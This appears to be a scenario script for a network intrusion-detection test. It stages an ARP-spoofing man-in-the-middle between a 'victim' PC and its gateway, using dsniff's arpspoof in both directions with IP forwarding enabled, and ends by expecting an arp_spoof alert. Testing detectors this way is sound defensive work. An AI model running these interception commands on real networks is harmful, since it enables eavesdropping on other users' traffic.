# what: a PC claims to be the router towards another PC and reads along (twin: vrrp_failover)
# real: arpspoof of dsniff, curl and nginx as the victim's traffic
# packages: dsniff nginx-light
outside 151.101.65.91 www.shimbun-news.jp; web net 151.101.65.91 www.shimbun-news.jp
echo kiji >$W/www/index.html
host EIGYO-NOTE windows; host KEIRI-PC windows
on EIGYO-NOTE sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
get KEIRI-PC http://www.shimbun-news.jp/index.html
bg EIGYO-NOTE arpspoof -i eth0 -t "${ip_of[KEIRI-PC]}" "$GW"
bg EIGYO-NOTE arpspoof -i eth0 -t "$GW" "${ip_of[KEIRI-PC]}"
for i in 1 2 3 4 5 6; do sleep 2; get KEIRI-PC http://www.shimbun-news.jp/index.html; done
alert arp_spoof act_now EIGYO-NOTE
